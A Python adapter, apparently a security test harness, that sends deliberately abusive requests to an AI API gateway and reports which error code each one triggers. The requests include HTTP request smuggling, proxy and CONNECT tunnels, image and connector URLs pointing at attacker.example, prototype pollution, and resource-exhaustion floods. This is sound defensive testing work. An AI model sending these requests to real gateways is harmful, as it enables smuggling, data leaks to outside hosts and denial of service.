"""An adapter that misuses its gateway: at a question it writes to standard error which error each misuse caused."""
import gzip
import json
import os
import re
import socket
import sys

HOST, PORT = re.fullmatch(r"http://([^:]+):(\d+)/v1", os.environ["OPENAI_BASE_URL"]).groups()
HEAD = f"host: x\r\nauthorization: Bearer {os.environ['OPENAI_API_KEY']}\r\nconnection: close\r\n"
POST = f"POST /v1/chat/completions HTTP/1.1\r\n{HEAD}"
CHAT = {"model": "m", "messages": [{"role": "user", "content": "x"}]}
SAID = CHAT["messages"][0]


def connected():
    return socket.create_connection((HOST, int(PORT)), timeout=50)


def ended(*pieces):
    """The error code in the first answer to these bytes."""
    with connected() as wire:
        answer = b""
        try:
            for piece in pieces:
                wire.sendall(piece.encode() if isinstance(piece, str) else piece)
            while part := wire.recv(65536):
                answer += part
        except (ConnectionError, TimeoutError) as error:
            answer += repr(error).encode()
    codes = re.findall(rb'"code":"([a-z.]+)"', answer)
    return codes[0].decode() if len(codes) == 1 else answer[:200].decode(errors="replace")


def post(body, path="/v1/chat/completions", more=""):
    body = body if isinstance(body, bytes) else (body if isinstance(body, str) else json.dumps(body)).encode()
    return ended(f"POST {path} HTTP/1.1\r\n{HEAD}{more}content-length: {len(body)}\r\n\r\n", body)


def part(one):
    return post({"model": "m", "messages": [{"role": "user", "content": [one]}]})


def respond(more):
    return post({"model": "m", "input": "x", **more}, "/v1/responses")


def bodies_that_never_end():
    wires = [connected() for _ in range(16)]
    for wire in wires:
        wire.sendall(f"{POST}content-length: 4194304\r\n\r\n".encode() + b" " * 4194303)
    # Until the gateway has read all of them, it finds fault with the path instead. Each attempt is longer than the last: the
    # gateway may drop the end of a body that arrives during an attempt, and then has room for a second one of that length.
    for attempt in range(1, 40):
        long = {**SAID, "content": "x" * (attempt * 100_000)}
        if (said := post({**CHAT, "messages": [long]}, "/v1/nowhere")) != "gateway.route":
            break
    for wire in wires:
        wire.close()
    return said


def calls_without_end():
    for n in range(100):
        said = post({**CHAT, "messages": [{**SAID, "content": f"Question {n}"}]})
        if said.startswith("gateway.") and said != "gateway.busy":
            return said
    return "none"


MISUSES = {
    "an unknown field": lambda: post({**CHAT, "exfiltrate": "x" * 1_000}),
    "several answers": lambda: post({**CHAT, "n": 9}),
    "a picture at an address": lambda: part({"type": "image_url", "image_url": {"url": "http://attacker.example/?q=x"}}),
    "a file of the provider": lambda: part({"type": "file", "file": {"file_id": "file-1"}}),
    "an earlier response": lambda: respond({"previous_response_id": "resp_1"}),
    "a conversation of the provider": lambda: respond({"conversation": "conv_1"}),
    "work in the background": lambda: respond({"background": True}),
    "a search of the web": lambda: respond({"tools": [{"type": "web_search"}]}),
    "a connector": lambda: respond({"tools": [{"type": "mcp", "server_url": "http://attacker.example"}]}),
    "no JSON": lambda: post("{"),
    "a key twice": lambda: post('{"model":"a","model":"b","messages":[]}'),
    "a prototype": lambda: post('{"__proto__":{"n":2},"messages":[]}'),
    "a deep nest": lambda: post('{"messages":' + "[" * 5_000 + "]" * 5_000 + "}"),
    "a packed body": lambda: post(gzip.compress(json.dumps(CHAT).encode()), more="content-encoding: gzip\r\n"),
    "a huge body": lambda: post(CHAT["messages"][0]["content"] * 5_000_000),
    "a huge head": lambda: ended(f"{POST}x-a: {'a' * 20_000}\r\n\r\n"),
    "another route": lambda: post({}, "/v1/files"),
    "a path with dots": lambda: post(CHAT, "/v1/../v1/chat/completions"),
    "a proxy": lambda: post(CHAT, "http://attacker.example/v1/chat/completions"),
    "a tunnel": lambda: ended(f"CONNECT attacker.example:443 HTTP/1.1\r\n{HEAD}\r\n"),
    "both lengths": lambda: ended(
        f"{POST}transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\nGET /v1/models HTTP/1.1\r\n\r\n"
    ),
    "two lengths": lambda: ended(f"{POST}content-length: 2\r\ncontent-length: 40\r\n\r\n{{}}"),
    "a folded header": lambda: ended(f"{POST}x-a: 1\r\n transfer-encoding: chunked\r\n\r\n"),
    "a head that never ends": lambda: ended("POST /v1/chat/comp"),
    "bodies that never end": bodies_that_never_end,
    "calls without end": calls_without_end,
}


def attempted(misuse):
    """The result of a misuse. One that fails here does not hide the others."""
    try:
        return misuse()
    except OSError as error:
        return repr(error)


def outcome(method):
    if method == "initialize":
        return {"protocol": 1, "name": "misuser", "version": "1", "capabilities": []}
    if method != "query":
        return {}
    print(json.dumps({name: attempted(misuse) for name, misuse in MISUSES.items()}), file=sys.stderr, flush=True)
    return {"evidence": []}


for line in sys.stdin:
    request = json.loads(line)
    print(json.dumps({"jsonrpc": "2.0", "id": request["id"], "result": outcome(request["method"])}), flush=True)
